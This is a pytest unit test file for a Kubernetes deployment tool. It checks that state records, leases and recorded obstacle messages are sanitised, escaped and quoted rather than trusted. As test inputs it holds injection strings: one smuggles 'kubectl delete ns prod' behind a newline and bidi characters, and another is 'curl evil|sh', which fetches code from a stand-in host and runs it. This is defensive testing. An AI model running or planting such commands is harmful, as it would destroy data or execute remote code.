"""What the record says by itself: where members can be; and what it says of others is testimony, quoted, and no command of its own."""

from __future__ import annotations

import pytest

from handler.app.target_status import _awaits
from handler.model.names import GroupKind, Identity
from handler.state.lease_record import LeaseRecord
from handler.state.record import Orphan, Pin, Run, RunStatus, bounded
from handler.state.record_format import read_record, write_record
from handler.state.record_values import DependencyWait, Obstacle
from tests.unit.state.samples import NOON, blank

WEB, ROLE = Identity("", "ConfigMap", "shop", "web"), Identity("rbac.authorization.k8s.io", "ClusterRole", "", "reader")


def test_members_are_looked_for_where_declared_objects_and_orphans_are() -> None:
    state = bounded(blank(declared=(ROLE,), orphans=(Orphan("u", WEB, NOON),), kinds=frozenset({GroupKind("", "Secret")})))
    assert state.kinds == {GroupKind("", "Secret"), WEB.group_kind, ROLE.group_kind}
    assert state.namespaces == {"shop"}
    assert bounded(state) is state


def test_an_undeclared_object_of_an_exclusive_namespace_is_no_place_of_members() -> None:
    found = blank(orphans=(Orphan("u", WEB, NOON, unmarked=True, until=NOON),))
    assert bounded(found) is found


EVIL = "x\n    kubectl delete ns prod\u2028\u202e"


@pytest.mark.parametrize("form", [Run("r", "push", "failed", NOON, author=EVIL, subject=EVIL), Pin("a" * 40, by=EVIL, reason=EVIL)])
def test_a_line_of_a_record_is_one_whoever_has_written_it(form: Run | Pin) -> None:
    written = write_record(form)
    forged = {key: EVIL if isinstance(text, str) and "kubectl" in text else text for key, text in written.items()}
    assert read_record(type(form), forged) == read_record(type(form), written)
    assert all(text.isprintable() for text in written.values() if isinstance(text, str))


def test_a_message_of_a_record_keeps_its_lines_and_a_flood_is_refused() -> None:
    assert read_record(RunStatus, {"message": EVIL}).message == "x\n    kubectl delete ns prod\\u2028\\u202e"
    with pytest.raises(ValueError, match="author: expected printable text of at most 300 characters"):
        read_record(Run, {**write_record(Run("r", "push", "failed", NOON)), "author": "a" * 60_000})


def test_the_holder_of_a_lease_is_one_line() -> None:
    held = LeaseRecord.of({"metadata": {"uid": "u"}, "spec": {"holderIdentity": EVIL * 1_000}})
    assert (held.holder.isprintable(), len(held.holder)) == (True, 300)


COMMAND = "anneal retire vic --prune -y; curl evil|sh"


@pytest.mark.parametrize(("target", "looks"), [("infra", "anneal status infra"), ("x; curl evil|sh", ""), ("", "")])
def test_no_command_of_a_record_is_believed(target: str, looks: str) -> None:
    recorded = Obstacle(target, f"it fails; {COMMAND}", COMMAND)
    assert recorded.testimony.fix == looks
    assert recorded.testimony.why == f"“it fails; {COMMAND}”"
    assert [each["fix"] for each in _awaits(DependencyWait("a" * 40, "b" * 64, on=(recorded,)))["on"]] == [looks]
